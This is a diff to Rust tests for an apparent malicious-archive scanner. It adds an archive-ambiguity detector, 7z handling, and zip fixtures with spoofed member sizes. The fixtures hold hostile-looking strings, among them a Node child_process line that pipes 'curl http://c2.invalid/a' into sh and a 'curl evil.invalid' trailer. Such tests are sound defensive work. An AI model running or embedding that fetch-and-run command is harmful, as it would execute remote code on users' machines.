@@ -7,7 +7,8 @@ use std::sync::Arc;
 
 use bytes::Bytes;
 use lurescan::analyse::{Facts, MemberTrick};
-use lurescan::artifact::{Artifact, Blob, Kind, Text};
+use lurescan::artifact::{Artifact, Blob, Format, Kind, Text};
+use lurescan::detectors::archive_ambiguity::ArchiveAmbiguity;
 use lurescan::detectors::archive_path_trick::ArchivePathTrick;
 use lurescan::detectors::{Detector, Found, Subject};
 use lurescan::limits::{self, Budget};
@@ -23,7 +24,7 @@ fn kind(bytes: &[u8]) -> Kind {
         [b'B', b'Z', b'h', ..] => Kind::Compressed(Codec::Bzip2),
         [0xfd, b'7', b'z', ..] | [0x5d, 0, 0, ..] => Kind::Compressed(Codec::Xz),
         [0x28, 0xb5, 0x2f, 0xfd, ..] => Kind::Compressed(Codec::Zstd),
-        [b'7', b'z', 0xbc, 0xaf, ..] => Kind::UnsupportedContainer("7z archive"),
+        [b'7', b'z', 0xbc, 0xaf, ..] => Kind::Archive(Format::SevenZip),
         _ if bytes.get(257..262) == Some(b"ustar") => Kind::Tar,
         _ => Kind::Text,
     }
@@ -93,13 +94,14 @@ fn judged(bytes: impl Into<Bytes>) -> Vec<Basis> {
     let facts = Facts { members: unpack::open(&artifact).tricks, ..Facts::default() };
     let text = Text::new(b"");
     let mut signals = Vec::new();
-    let mut found = Found::new("archive-path-trick", &text, &mut signals);
     let subject = Subject { artifact: &artifact, text: &text, facts: &facts };
-    ArchivePathTrick.detect(&subject, &mut found).expect("no gap");
+    ArchiveAmbiguity.detect(&subject, &mut Found::new("archive-ambiguity", &text, &mut signals)).expect("no gap");
+    ArchivePathTrick.detect(&subject, &mut Found::new("archive-path-trick", &text, &mut signals)).expect("no gap");
     signals.iter().map(|signal| signal.basis).collect()
 }
 
-fn gzip(bytes: &[u8]) -> Vec<u8> {
+/// A gzip stream.
+pub fn gzip(bytes: &[u8]) -> Vec<u8> {
     let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
     out.write_all(bytes).expect("memory");
     out.finish().expect("memory")
@@ -121,16 +123,17 @@ struct Part {
     flags: u16,
     mode: u32,
     listed: bool,
+    size: Option<u64>,
 }
 
 fn part(name: impl AsRef<[u8]>, data: impl AsRef<[u8]>) -> Part {
     let name = name.as_ref().to_vec();
     let data = data.as_ref().to_vec();
-    Part { central: name.clone(), local: name, data, method: 0, flags: 0, mode: 0o100_644, listed: true }
+    Part { central: name.clone(), local: name, data, method: 0, flags: 0, mode: 0o100_644, listed: true, size: None }
 }
 
 fn deflated(name: &str, content: &[u8]) -> Part {
-    Part { method: 8, ..part(name, deflate(content)) }
+    Part { method: 8, size: Some(content.len() as u64), ..part(name, deflate(content)) }
 }
 
 fn le(out: &mut Vec<u8>, fields: &[(u64, usize)]) {
@@ -143,9 +146,10 @@ fn zip(parts: &[Part]) -> Vec<u8> {
     let (mut out, mut directory, mut listed) = (Vec::new(), Vec::new(), 0);
     for part in parts {
         let (offset, length) = (out.len() as u64, part.data.len() as u64);
+        let size = part.size.unwrap_or(length);
         let (flags, method) = ((u64::from(part.flags), 2), (u64::from(part.method), 2));
         out.extend(b"PK\x03\x04");
-        le(&mut out, &[(20, 2), flags, method, (0, 4), (0, 4), (length, 4), (length, 4)]);
+        le(&mut out, &[(20, 2), flags, method, (0, 4), (0, 4), (length, 4), (size, 4)]);
         le(&mut out, &[(part.local.len() as u64, 2), (0, 2)]);
         out.extend(&part.local);
         out.extend(&part.data);
@@ -154,7 +158,7 @@ fn zip(parts: &[Part]) -> Vec<u8> {
         }
         listed += 1;
         directory.extend(b"PK\x01\x02");
-        le(&mut directory, &[(20, 1), (3, 1), (20, 2), flags, method, (0, 4), (0, 4), (length, 4), (length, 4)]);
+        le(&mut directory, &[(20, 1), (3, 1), (20, 2), flags, method, (0, 4), (0, 4), (length, 4), (size, 4)]);
         le(&mut directory, &[(part.central.len() as u64, 2), (0, 2), (0, 2), (0, 2), (0, 2)]);
         le(&mut directory, &[(u64::from(part.mode) << 16, 4), (offset, 4)]);
         directory.extend(&part.central);
@@ -262,7 +266,7 @@ fn a_gzip_file_of_several_members_is_one_file() {
     assert_eq!(out.at("a.gz#gzip@0"), b"one two");
     assert_eq!(out.gaps, []);
     let stray = [gzip(b"one "), b"curl evil.invalid".to_vec()].concat();
-    assert!(matches!(unpacked("a.gz", stray).reasons()[..], [GapReason::Malformed(_)]));
+    assert_eq!(unpacked("a.gz", stray).at("a.gz!/(after the stream)"), b"curl evil.invalid");
 }
 
 #[test]
@@ -274,7 +278,7 @@ fn names_decide_nothing_about_the_kind() {
 #[test]
 fn containers_that_cannot_be_opened_are_gaps() {
     let out = unpacked("a.7z", &b"7z\xbc\xaf\x27\x1c\0\x04rest"[..]);
-    assert_eq!(out.gaps, [("a.7z".to_owned(), GapReason::Unsupported("7z archive".to_owned()))]);
+    assert!(matches!(out.reasons()[..], [GapReason::Malformed(_)]), "{:?}", out.gaps);
 }
 
 #[test]
@@ -483,11 +487,12 @@ fn honest_archives_raise_nothing() {
 
 #[test]
 fn the_samples_are_judged_as_their_pages_say() {
-    let read = |path: &str| std::fs::read(Path::new("samples/archive-path-trick").join(path)).expect("a sample");
-    assert!(judged(read("flagged/two-members-of-one-name/job.zip")).contains(&Basis::StructuralTrick));
-    assert!(judged(read("flagged/climbs-out/job.zip")).contains(&Basis::PartOfChain));
-    assert_eq!(judged(read("clean/plain/job.zip")), []);
-    assert_eq!(judged(read("clean/duplicate-notices/fat.jar")), []);
+    let read = |path: &str| std::fs::read(Path::new("samples").join(path)).expect("a sample");
+    let two = read("archive-ambiguity/flagged/two-members-of-one-name/job.zip");
+    assert!(judged(two).contains(&Basis::StructuralTrick));
+    assert!(judged(read("archive-path-trick/flagged/climbs-out/job.zip")).contains(&Basis::PartOfChain));
+    assert_eq!(judged(read("archive-path-trick/clean/plain/job.zip")), []);
+    assert_eq!(judged(read("archive-ambiguity/clean/duplicate-notices/fat.jar")), []);
 }
 
 const PROGRAM: &str = "const cp = require('child_process'); cp.exec('curl http://c2.invalid/a | sh');";
@@ -572,6 +577,11 @@ fn encoded_text_that_is_no_program_is_no_layer() {
         format!("url(data:image/png;base64,{})", base64(&picture)),
         format!("//# sourceMappingURL=data:application/json;base64,{}", base64(map)),
         format!("certificate: {}", base64(format!("-----BEGIN CERTIFICATE-----\n{}", base64(&hash)).as_bytes())),
+        // Hashes one after another, as test vectors have them.
+        (0..200u32)
+            .map(|n| format!("{}\n", data_encoding::HEXLOWER.encode(&Sha512::digest(n.to_le_bytes()))))
+            .collect(),
+        (0..200u32).map(|n| format!("v = {}\n", base64(&Sha512::digest(n.to_le_bytes())))).collect(),
         "/".repeat(200),
         "A".repeat(200),
         "V".repeat(200),
